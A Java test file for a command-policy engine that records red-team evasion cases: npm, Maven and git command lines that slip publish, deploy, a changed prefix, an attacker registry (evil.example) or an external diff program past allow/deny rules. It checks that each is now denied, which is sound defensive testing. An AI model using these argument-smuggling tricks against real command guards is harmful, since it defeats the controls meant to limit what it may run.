package dev.gatehouse.policy;

import static dev.gatehouse.policy.ArgvEvasionTest.allow;
import static dev.gatehouse.policy.ArgvEvasionTest.deny;
import static dev.gatehouse.policy.ArgvEvasionTest.line;
import static dev.gatehouse.policy.Fixtures.decide;
import static dev.gatehouse.policy.Fixtures.human;
import static dev.gatehouse.policy.Fixtures.policy;
import static dev.gatehouse.policy.Fixtures.target;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Twentieth red-team round (rt20exec): npm's command line as nopt reads it ({@link Nopt}). Every
 * denial up to the comment "already decided" was allowed before its fix; each was checked against
 * npm 11.19.1 ({@code npm --json=config get json} runs config; {@code npm_config_dry_run=true npm
 * --ignore-scripts=publish test} runs publish; {@code npm -wCCC test} ran the script shell named by
 * {@code ./--prefix/etc/npmrc}; {@code npm -Cw config get loglevel} runs config).
 */
class ArgvTwentiethRoundTest {
  /** The shipped ci.yaml's npm rules: ci and test with a flag list, never publish. */
  static final PolicySet CI_NPM =
      policy(
          """
          rules:
            - id: ci-no-publish
              effect: deny
              command:
                binary: npm
                args: [[publish, unpublish, deprecate, dist-tag, owner, adduser, login, token]]
            - id: ci-npm
              effect: allow
              command:
                binary: npm
                subcommand: [ci, test]
                flags_with_values: [--loglevel, --workspace, -w]
                flags: { allowed: [--loglevel, --workspace, -w, --silent, --no-audit, --ignore-scripts] }
          """);

  /** npm ci and npm test with no flag list: the risky-flag catalogue is the only guard. */
  static final PolicySet NPM_ANY =
      policy(
          """
          rules:
            - id: npm
              effect: allow
              command: { binary: npm, subcommand: [ci, test], flags_with_values: [-w, --loglevel] }
          """);

  /**
   * Any npm command but those the deny rules name; the deny rules list value flags of their own
   * (round 19 left them reading a String option as taking a word like an option).
   */
  static final PolicySet DENY_WITH_VALUES =
      policy(
          """
          rules:
            - id: all-npm
              effect: allow
              command: { binary: npm, flags: { accept_risky: [-C, --prefix] } }
            - id: no-publish
              effect: deny
              command: { binary: npm, args: [publish], flags_with_values: [--tag, -w, --otp] }
            - id: no-registry
              effect: deny
              command:
                binary: npm
                flags_with_values: [--tag, --otp]
                flags: { present: [--registry, --prefix] }
          """);

  /** The shipped ci.yaml's Maven rules: verify and nothing after it, never deploy. */
  static final PolicySet CI_MVN =
      policy(
          """
          rules:
            - id: ci-no-deploy
              effect: deny
              command:
                binary: [mvn, mvnw]
                args: [["re:(?i).*(deploy|release|publish|perform|staging|checkin|upload).*"]]
            - id: ci-maven-verify
              effect: allow
              command:
                binary: [mvn, /usr/bin/mvn]
                args: [verify]
                paths: []
                flags: { allowed: [-B, --batch-mode, -q, --quiet, -e, --errors, -ntp] }
            - id: mvn-any-flags
              effect: allow
              command: { binary: mvnw, args: [verify], paths: [] }
          """);

  /**
   * git reads with no flag list, any ordinary variable. git diff runs diff.external and a driver's
   * command by default, git diff/log/show run textconv by default (git 2.39.5, checked with a
   * driver that logs): --ext-diff and --textconv add no program of their own; only configuration
   * names one, and the catalogue guards where configuration comes from.
   */
  static final PolicySet GIT_READ =
      policy(
          """
          rules:
            - id: git-read
              effect: allow
              command: { binary: git, subcommand: [status, log, diff, show], env: ["*"] }
          """);

  static Stream<Arguments> cases() {
    return Stream.of(
        // --- a Boolean option written with = leaves its value as a word: npm's command ---
        deny(
            "--ignore-scripts=publish test runs publish",
            CI_NPM,
            line("npm --ignore-scripts=publish test")),
        deny(
            "--silent=publish (a shorthand) runs publish",
            CI_NPM,
            line("npm --silent=publish test")),
        deny("--no-audit=publish runs publish", CI_NPM, line("npm --no-audit=publish ci")),
        deny("--json=exec runs npm exec", NPM_ANY, line("npm --json=exec test")),
        deny("-s=publish (one-letter shorthand)", NPM_ANY, line("npm -s=publish test")),
        deny("-ws=publish (--workspaces)", NPM_ANY, line("npm -ws=publish test")),
        deny("--ignore=publish (a unique prefix)", NPM_ANY, line("npm --ignore=publish test")),
        deny("--dry-run=install", NPM_ANY, line("npm --dry-run=install test")),
        deny("--no-tag=publish (a negated String)", NPM_ANY, line("npm --no-tag=publish test")),
        deny("--yes=publish (null|Boolean)", NPM_ANY, line("npm --yes=publish test")),
        // --- a short word has no glued value: -wCCC is --workspace --prefix --prefix --prefix ---
        deny("-wCCC sets the prefix (flag list)", CI_NPM, line("npm -wCCC test")),
        deny("-wCCC sets the prefix (catalogue only)", NPM_ANY, line("npm -wCCC test")),
        deny("-wCCs: a shorthand's value is a word", NPM_ANY, line("npm -wCCs test")),
        // --- deny rules read the words as npm does, whatever their own flags_with_values ---
        deny(
            "--tag takes no --registry=... (deny rule's own --tag)",
            DENY_WITH_VALUES,
            line("npm test --tag --registry=http://evil.example/")),
        deny(
            "--tag takes no -C (present --prefix)",
            DENY_WITH_VALUES,
            line("npm test --tag -C /tmp/x")),
        deny(
            "--tag takes no -reg (present --registry)",
            DENY_WITH_VALUES,
            line("npm test --tag -reg http://evil.example/")),
        deny(
            "--tag=--registry=URL (an = value read as an option)",
            DENY_WITH_VALUES,
            line("npm test --tag=--registry=http://evil.example/")),
        deny(
            "----registry (nopt strips every dash)",
            DENY_WITH_VALUES,
            line("npm test ----registry=http://evil.example/")),
        deny("-Cw publish: -C takes -w, publish runs", DENY_WITH_VALUES, line("npm -Cw publish")),
        deny("--json=publish", DENY_WITH_VALUES, line("npm --json=publish")),
        deny("-s=publish", DENY_WITH_VALUES, line("npm -s=publish")),
        deny("--no-audit=publish", DENY_WITH_VALUES, line("npm --no-audit=publish")),
        deny("-wC=publish", DENY_WITH_VALUES, line("npm -wC=publish")),
        deny("--json=pu (a prefix of publish)", DENY_WITH_VALUES, line("npm --json=pu")),
        // --- Maven (commons-cli GnuParser) splits -B=GOAL, --batch-mode=GOAL and -BGOAL ---
        deny("mvn -B=deploy verify runs deploy", CI_MVN, line("mvn -B=deploy verify")),
        deny("mvn verify --batch-mode=deploy", CI_MVN, line("mvn verify --batch-mode=deploy")),
        deny("mvn verify -q=exec:exec", CI_MVN, line("mvn verify -q=exec:exec")),
        deny("mvn -ntp=antrun:run verify", CI_MVN, line("mvn -ntp=antrun:run verify")),
        deny("mvnw verify -Bexec:exec (no flag list)", CI_MVN, line("mvnw verify -Bexec:exec")),
        deny("mvnw -edeploy verify (no flag list)", CI_MVN, line("mvnw verify -edeploy")),
        // --- already decided ---
        deny("npm publish", DENY_WITH_VALUES, line("npm publish")),
        deny(
            "git -c diff.x.command=... log --ext-diff",
            GIT_READ,
            line("git -c diff.x.command=/tmp/x log -p --ext-diff")),
        deny(
            "git --config-env=diff.external=V log --ext-diff",
            GIT_READ,
            line("git --config-env=diff.external=V log -p --ext-diff")),
        deny(
            "GIT_EXTERNAL_DIFF through a wildcard",
            GIT_READ,
            ArgvEvasionTest.withEnv(line("git diff"), "GIT_EXTERNAL_DIFF")),
        deny(
            "GIT_CONFIG_COUNT through a wildcard",
            GIT_READ,
            ArgvEvasionTest.withEnv(line("git log --textconv"), "GIT_CONFIG_COUNT")),
        allow("git log -p --ext-diff (as git diff does)", GIT_READ, line("git log -p --ext-diff")),
        allow("git show --textconv (the default)", GIT_READ, line("git show --textconv")),
        deny("-reg=URL (abbreviates --registry)", DENY_WITH_VALUES, line("npm -reg=http://x/ ci")),
        deny("--prefix DIR", DENY_WITH_VALUES, line("npm test --prefix /tmp/x")),
        allow("npm test", CI_NPM, line("npm test")),
        allow("--loglevel=silent", CI_NPM, line("npm --loglevel=silent test")),
        allow("--loglevel silent", CI_NPM, line("npm --loglevel silent test")),
        allow("-w pkg", CI_NPM, line("npm -w pkg test")),
        allow("-w=pkg (nopt: --workspace pkg)", CI_NPM, line("npm -w=pkg test")),
        allow("--workspace=pkg", CI_NPM, line("npm ci --workspace=pkg --no-audit")),
        allow("--ignore-scripts=true takes true", CI_NPM, line("npm --ignore-scripts=true ci")),
        allow("--silent and --ignore-scripts", CI_NPM, line("npm --silent ci --ignore-scripts")),
        allow("-wpkg is the unknown Boolean --wpkg", NPM_ANY, line("npm -wpkg test")),
        allow("-sw pkg: --loglevel silent --workspace pkg", NPM_ANY, line("npm -sw pkg test")),
        allow("a word after the command", NPM_ANY, line("npm test --no-audit=x")),
        allow("--tag=publish is a tag", DENY_WITH_VALUES, line("npm test --tag=publish")),
        allow("--otp takes publish", DENY_WITH_VALUES, line("npm test --otp=publish")),
        allow("npm test --tag beta", DENY_WITH_VALUES, line("npm test --tag beta")),
        allow("mvn -B verify", CI_MVN, line("mvn -B verify -ntp")),
        allow("mvnw -T4 verify (-T takes 4)", CI_MVN, line("mvnw verify -T4")),
        allow("mvnw -T=4 verify", CI_MVN, line("mvnw verify -T=4 -fae")),
        allow("mvnw -Dskip=true verify", CI_MVN, line("mvnw -Dskip=true verify")),
        allow("mvnw -Pci verify", CI_MVN, line("mvnw verify -Pci")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void decides(String name, PolicySet p, Action a, Effect expected) {
    Decision d = decide(p, human("mallory"), target("runner"), a);
    assertThat(d.effect()).as(name + ": " + a.raw() + " -> " + d.explanation()).isEqualTo(expected);
  }

  @Test
  void noptReadsTheWordsAsNpm11Does() {
    Nopt.Reading r = Nopt.read(List.of("npm", "--ignore-scripts=publish", "test"));
    assertThat(r.remain()).containsExactly("publish", "test");
    r = Nopt.read(List.of("npm", "-wCCC", "test"));
    assertThat(Nopt.names(r)).containsExactly("--workspace", "--prefix");
    assertThat(r.remain()).containsExactly("test");
    r = Nopt.read(List.of("npm", "-wpkg", "test"));
    assertThat(Nopt.names(r)).containsExactly("--wpkg");
    r = Nopt.read(List.of("npm", "--tag", "--registry=x", "-reg", "y", "--", "-s"));
    assertThat(Nopt.names(r)).containsExactly("--tag", "--registry", "--registry");
    assertThat(r.remain()).containsExactly("-s");
    r = Nopt.read(List.of("npm", "--no-otp", "x", "--color=always", "ci"));
    assertThat(r.remain()).containsExactly("ci");
  }

  @Test
  void theExplanationNamesNpmsCommand() {
    Decision d = decide(CI_NPM, human("mallory"), target("runner"), line("npm --silent=run test"));
    assertThat(String.join("\n", d.explanation()))
        .contains("ci-npm")
        .contains("reads its command and arguments as [run, test], not [test]");
  }
}
